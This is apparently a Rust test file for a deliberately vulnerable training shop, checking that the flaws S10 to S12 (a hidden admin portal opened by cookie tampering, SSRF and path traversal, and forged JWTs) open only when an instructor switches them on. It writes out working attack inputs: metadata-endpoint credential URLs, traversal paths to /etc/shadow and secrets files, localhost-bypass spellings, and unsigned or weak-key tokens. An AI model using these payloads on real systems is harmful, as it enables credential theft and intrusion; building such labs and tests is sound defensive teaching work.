// SPDX-License-Identifier: AGPL-3.0-or-later
//! The flaws S10, S11 and S12: a portal that is not there, and three ways through it, all of which end in what is made up.

use std::net::TcpListener;

use axum::body::Body;
use axum::http::Request;
use serde_json::{Value, json};

use super::accounts::{Learner, learner, proved, reset, switch_on};
use super::struck;
use crate::util::app::{Client, Reply, TestApp, json_request};
use crate::util::shopper::{ok, refused};

/// Every call of the portal, with a body that is right.
pub fn calls() -> Vec<(&'static str, &'static str, Option<Value>)> {
    let login = json!({"email": "user7@perfshop.com", "password": "password7"});
    vec![
        ("POST", "/api/admin/portal/login", Some(login)),
        ("GET", "/api/admin/portal/users", None),
        ("GET", "/api/admin/portal/orders", None),
        ("POST", "/api/admin/portal/preview", Some(json!({"url": "http://images.perfshop.internal/banners/lamp.svg"}))),
        ("GET", "/api/admin/portal/logs?file=access.log", None),
    ]
}

fn nowhere() -> (u16, String) {
    (404, "NO_SUCH_PATH".to_owned())
}

pub fn bearing(mut request: Request<Body>, token: &str) -> Request<Body> {
    request.headers_mut().insert("authorization", format!("Bearer {token}").parse().unwrap());
    request
}

async fn enter(client: &Client<'_>, who: &Learner<'_>) -> Reply {
    client.post("/api/admin/portal/login", json!({"email": who.email, "password": who.password})).await
}

/// Opens the portal as a customer. Gives the token.
async fn token_of(who: &Learner<'_>) -> String {
    let entered = ok(enter(&who.client, who).await).json();
    assert_eq!(entered["role"], "customer", "{entered}");
    entered["token"].as_str().unwrap().to_owned()
}

/// The portal is not there: its calls in any method, its page, the way to it and the line of robots.txt.
async fn assert_closed(app: &TestApp, client: &Client<'_>) {
    for (method, path, body) in calls() {
        let mut request = json_request(method, path, body.clone());
        request.headers_mut().insert("authorization", "Bearer e30.e30.".parse().unwrap());
        request.headers_mut().insert("cookie", "portal_role=admin".parse().unwrap());
        assert_eq!(refused(&app.ask_public(request).await), nowhere(), "{method} {path}");
        assert_eq!(refused(&client.send(json_request(method, path, body)).await), nowhere(), "{method} {path}");
        for other in ["GET", "POST", "PUT", "DELETE"] {
            assert_eq!(refused(&client.send(json_request(other, path, None)).await), nowhere(), "{other} {path}");
        }
    }
    assert_eq!(refused(&client.get("/admin").await), nowhere());
    assert!(!ok(client.get("/robots.txt").await).text().contains("admin"));
    for path in ["/shop/admin", "/shop/admin/", "/shop/admin/users"] {
        let page = client.get(path).await;
        assert_eq!(page.status, 404, "{path}");
        assert_eq!(page.text(), ok(client.get("/shop/nothing").await).text(), "{path}: the shop's own page");
    }
}

#[tokio::test]
async fn evidence_s10() {
    for app in TestApp::both().await {
        let instructor = app.instructor().await;
        let (ada, grace) = (learner(&app, "Ada").await, learner(&app, "Grace").await);
        assert_closed(&app, &ada.client).await;

        switch_on(&instructor, "S10", Some(json!({"kind": "student", "value": ada.token}))).await;
        assert_closed(&app, &grace.client).await;
        let robots = ok(ada.client.get("/robots.txt").await);
        assert!(robots.text().contains("Disallow: /shop/admin\n"), "{}", robots.text());
        assert_eq!(ada.client.get("/admin").await.headers["location"], "/shop/admin");
        let page = ok(ada.client.get("/shop/admin").await);
        assert!(page.text().contains("/shop/admin/assets/") && page.headers.contains_key("content-security-policy"));

        let users = "/api/admin/portal/users";
        assert_eq!(refused(&ada.client.get(users).await), (401, "LOGIN_REQUIRED".to_owned()));
        // A login says in clear who somebody is, and a cookie is written by whoever likes.
        token_of(&ada).await;
        assert_eq!(ada.client.cookie("portal_role").as_deref(), Some("customer"));
        assert_eq!(refused(&ada.client.get(users).await), (403, "FORBIDDEN".to_owned()));
        ada.client.keep("portal_role", "admin");
        let listed = ok(ada.client.get(users).await).json();
        assert_eq!(listed["content"].as_array().unwrap().len(), 5, "{listed}");
        assert_eq!(proved(&ada, &listed["flag"]).await, "S10", "{}", app.database);
        ok(ada.client.get("/api/admin/portal/orders").await);
        // The portal is one thing, the instructor's calls are another.
        for path in ["/api/admin/me", "/api/admin/users", "/api/admin/orders", "/api/admin/chaos/status"] {
            assert_eq!(refused(&ada.client.get(path).await), (401, "ADMIN_REQUIRED".to_owned()), "{path}");
        }
        let mut request = json_request("GET", users, None);
        request.headers_mut().insert("x-admin-token", instructor.token.parse().unwrap());
        request.headers_mut().insert("x-student-token", ada.token.parse().unwrap());
        assert_eq!(refused(&app.ask_public(request).await), (401, "LOGIN_REQUIRED".to_owned()), "the admin's token");
        assert_eq!(
            app.ask_admin(json_request("GET", users, None)).await.status,
            404,
            "not on the instructor's listener"
        );
        // What is made up holds nobody of the shop, and the flaws that are off are off.
        assert!(!listed.to_string().contains("@perfshop.com"), "{listed}");
        let (preview, logs) = ("/api/admin/portal/preview", "/api/admin/portal/logs?file=../auth.log");
        let elsewhere = ada.client.post(preview, json!({"url": "http://169.254.169.254/latest/meta-data/"})).await;
        assert_eq!(refused(&elsewhere), (400, "VALIDATION_FAILED".to_owned()));
        assert_eq!(refused(&ada.client.get(logs).await), (400, "VALIDATION_FAILED".to_owned()));
        assert!(struck(&app, "chaos_security_s10_portal").await >= 2.0);

        reset(&instructor).await;
        assert_closed(&app, &ada.client).await;
    }
}

#[tokio::test]
async fn evidence_s11() {
    let app = TestApp::sqlite().await;
    let instructor = app.instructor().await;
    let ada = learner(&app, "Ada").await;
    assert_closed(&app, &ada.client).await;
    switch_on(&instructor, "S11", None).await;
    assert_eq!(enter(&ada.client, &ada).await.headers.get("set-cookie"), None, "the cookie is another flaw's");
    let token = token_of(&ada).await;
    let send = async |method: &str, path: &str, body: Option<Value>| {
        ada.client.send(bearing(json_request(method, path, body), &token)).await
    };
    let preview = async |url: &str| send("POST", "/api/admin/portal/preview", Some(json!({"url": url}))).await;
    let picture = ok(preview("http://images.perfshop.internal/banners/lamp.svg").await).json();
    assert_eq!((&picture["status"], &picture["contentType"]), (&json!(200), &json!("image/svg+xml")));
    let credentials = "http://169.254.169.254/latest/meta-data/iam/security-credentials/portal";
    let stolen = ok(preview(credentials).await).json();
    let secret: Value = serde_json::from_str(stolen["body"].as_str().unwrap()).unwrap();
    assert_eq!(proved(&ada, &secret["Token"]).await, "S11");
    let logs = async |file: &str| send("GET", &format!("/api/admin/portal/logs?file={file}"), None).await;
    assert_eq!(ok(send("GET", "/api/admin/portal/logs", None).await).json()["files"].as_array().unwrap().len(), 3);
    assert!(ok(logs("access.log").await).json()["content"].as_str().unwrap().contains("omarchetti"));
    let secrets = ok(logs("../../../etc/portal/secrets.env").await).json();
    assert!(secrets["content"].as_str().unwrap().contains("PROOF=PFSH{"), "{secrets}");
    // Of this machine nothing is read.
    for file in ["../../../proc/self/environ", "/etc/shadow", "/proc/self/status", "../../../../root/.profile"] {
        assert_eq!(refused(&logs(file).await), (404, "NOT_FOUND".to_owned()), "{file}");
    }
    // Neither users nor orders are a customer's to see.
    assert_eq!(refused(&send("GET", "/api/admin/portal/users", None).await), (403, "FORBIDDEN".to_owned()));

    // Nothing is sent to any address: a listener of this machine is never asked, however it is spelt.
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    for host in
        ["127.0.0.1", "localhost", "[::1]", "2130706433", "0x7f.1", "[::ffff:127.0.0.1]", "0.0.0.0", "127.0.0.1.nip.io"]
    {
        for scheme in ["http", "https", "ftp", "gopher"] {
            let direct = format!("{scheme}://{host}:{port}/");
            let led = format!("http://links.perfshop.internal/go?to={direct}");
            for url in [direct, led] {
                let answer = ok(preview(&url).await).json();
                assert_eq!(answer["status"], 502, "{url}: {answer}");
            }
        }
    }
    assert_eq!(listener.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "somebody was asked");
    assert!(struck(&app, "chaos_security_s11_ssrf").await >= 4.0);

    reset(&instructor).await;
    assert_closed(&app, &ada.client).await;
}

/// A token that anybody can make: two parts and a signature, by the words of RFC 7519.
pub fn forged(header: &str, claims: &Value, key: Option<&str>) -> String {
    use base64::Engine;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let signed = format!("{}.{}", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(claims.to_string()));
    let signature = key.map(|key| {
        let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, key.as_bytes());
        URL_SAFE_NO_PAD.encode(aws_lc_rs::hmac::sign(&key, signed.as_bytes()).as_ref())
    });
    format!("{signed}.{}", signature.unwrap_or_default())
}

#[tokio::test]
async fn evidence_s12() {
    for app in TestApp::both().await {
        let instructor = app.instructor().await;
        let ada = learner(&app, "Ada").await;
        let claims = json!({"sub": "1", "role": "admin", "exp": 4_000_000_000_i64});
        let unsigned = forged(r#"{"alg":"none"}"#, &claims, None);
        let guessed = forged(r#"{"alg":"HS256","typ":"JWT"}"#, &claims, Some("sunshine"));
        let users = async |token: &str| {
            ada.client.send(bearing(json_request("GET", "/api/admin/portal/users", None), token)).await
        };
        assert_closed(&app, &ada.client).await;
        // With another flaw alone the portal is there, and believes its own tokens.
        let other = switch_on(&instructor, "S11", None).await;
        let genuine = token_of(&ada).await;
        for token in [&unsigned, &guessed] {
            assert_eq!(refused(&users(token).await), (401, "LOGIN_REQUIRED".to_owned()), "{token}");
        }
        assert_eq!(refused(&users(&genuine).await), (403, "FORBIDDEN".to_owned()));
        ok(instructor.delete(&format!("/api/admin/chaos/activations/{other}")).await);

        switch_on(&instructor, "S12", None).await;
        for token in [&unsigned, &guessed] {
            let listed = ok(users(token).await).json();
            assert_eq!(proved(&ada, &listed["flag"]).await, "S12", "{}", app.database);
        }
        for wrong in
            [forged(r#"{"alg":"HS256"}"#, &claims, Some("moonshine")), forged(r#"{"alg":"none"}"#, &json!({}), None)]
        {
            assert_eq!(refused(&users(&wrong).await), (401, "LOGIN_REQUIRED".to_owned()), "{wrong}");
        }
        ada.client.keep("portal_role", "admin");
        assert_eq!(refused(&ada.client.get("/api/admin/portal/users").await).0, 401, "the cookie is another flaw's");
        // It opens nothing but the portal.
        for path in ["/api/admin/me", "/api/admin/chaos/status", "/api/auth/me"] {
            let request = || bearing(json_request("GET", path, None), &unsigned);
            assert_eq!(refused(&app.ask_admin(request()).await).0 / 100, 4, "{path}");
            assert_eq!(refused(&app.ask_public(request()).await).0, 401, "{path}");
            let mut named = json_request("GET", path, None);
            named.headers_mut().insert("x-admin-token", unsigned.parse().unwrap());
            assert_eq!(refused(&app.ask_public(named).await).0, 401, "{path}");
        }
        assert!(struck(&app, "chaos_security_s12_jwt").await >= 2.0);

        reset(&instructor).await;
        assert_closed(&app, &ada.client).await;
    }
}

/// The role that an account has given itself opens the portal, and only while it has it.
#[tokio::test]
async fn a_role_that_was_assigned_opens_the_portal_and_ends_with_its_flaw() {
    for app in TestApp::both().await {
        let instructor = app.instructor().await;
        let ada = learner(&app, "Ada").await;
        switch_on(&instructor, "S11", None).await;
        let assigned = switch_on(&instructor, "S9", None).await;
        ok(ada.client.put("/api/auth/me", json!({"role": "admin"})).await);
        let entered = ok(enter(&ada.client, &ada).await).json();
        assert_eq!(entered["role"], "admin", "{}", app.database);
        let token = entered["token"].as_str().unwrap();
        let users =
            async || ada.client.send(bearing(json_request("GET", "/api/admin/portal/users", None), token)).await;
        assert_eq!(ok(users().await).json()["flag"], Value::Null, "it proves no flaw of the portal");
        ok(instructor.delete(&format!("/api/admin/chaos/activations/{assigned}")).await);
        super::accounts::restored(&app).await;
        assert_eq!(refused(&users().await), (403, "FORBIDDEN".to_owned()), "{}", app.database);
    }
}

#[tokio::test]
async fn what_is_wrong_with_a_call_of_the_portal_is_told_by_its_field() {
    let app = TestApp::sqlite().await;
    let instructor = app.instructor().await;
    let ada = learner(&app, "Ada").await;
    switch_on(&instructor, "S10", None).await;
    ada.client.keep("portal_role", "admin");
    let long = "x".repeat(3_000);
    for (path, body, field) in [
        ("login", json!({"email": "a@b.c"}), "password"),
        ("login", json!({"email": 7, "password": "x"}), "email"),
        ("login", json!({"email": "a@b.c", "password": "x", "role": "admin"}), "role"),
        ("preview", json!({}), "url"),
        ("preview", json!({"url": ""}), "url"),
        ("preview", json!({"url": "no address"}), "url"),
        ("preview", json!({"url": long}), "url"),
    ] {
        let reply = ada.client.post(&format!("/api/admin/portal/{path}"), body).await;
        assert_eq!(refused(&reply), (400, "VALIDATION_FAILED".to_owned()), "{path}");
        assert!(reply.json()["errors"].as_array().unwrap().iter().any(|e| e["field"] == field), "{}", reply.text());
    }
    for file in ["", &long, "a/b", "%2e%2e%2fauth.log", "..%5cauth.log", "%00/"] {
        let reply = ada.client.get(&format!("/api/admin/portal/logs?file={file}")).await;
        assert_eq!(refused(&reply), (400, "VALIDATION_FAILED".to_owned()), "{file}");
    }
    for body in [&b"{"[..], b"\xff", b"[]"] {
        let request = crate::util::app::raw_request("POST", "/api/admin/portal/preview", body.to_vec());
        assert_eq!(ada.client.send(request).await.status, 400);
    }
}
